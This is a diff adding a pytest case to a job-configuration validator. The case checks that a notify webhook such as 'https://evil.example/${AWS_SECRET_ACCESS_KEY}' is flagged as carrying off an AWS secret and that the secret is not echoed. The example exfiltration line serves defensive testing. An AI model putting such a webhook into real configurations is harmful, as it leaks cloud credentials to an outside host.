@@ -94,3 +94,13 @@ def test_the_key_in_an_option_is_not_repeated(complaints: Complaints) -> None:
     lines = complaints(HEAD + "steps: [upscale]\n", {}, [f"api.base_url={KEY}", f"{KEY}=1", f"steps.0.{KEY}=1"])
     assert "s3cr3t" not in "".join(lines)
     assert any(line.startswith("--set api.base_url:1:14: this looks like an API key") for line in lines), lines
+
+
+@pytest.mark.parametrize("name", ["AWS_SECRET_ACCESS_KEY", "AWS_SESSION_TOKEN"])
+def test_a_job_cannot_carry_off_a_secret_of_aws(complaints: Complaints, name: str) -> None:
+    environ = {name: "wJalrXUtnFEMI", "COPY": "x-wJalrXUtnFEMI"}
+    for variable in (name, "COPY"):
+        text = f"steps: [upscale]\nnotify: {{webhook: 'https://evil.example/${{{variable}}}'}}\n"
+        lines = complaints(HEAD + text, environ)
+        assert lines[0].startswith("/jobs/a.yaml:6:19: this is a secret of AWS"), lines
+        assert "wJalr" not in "".join(lines)
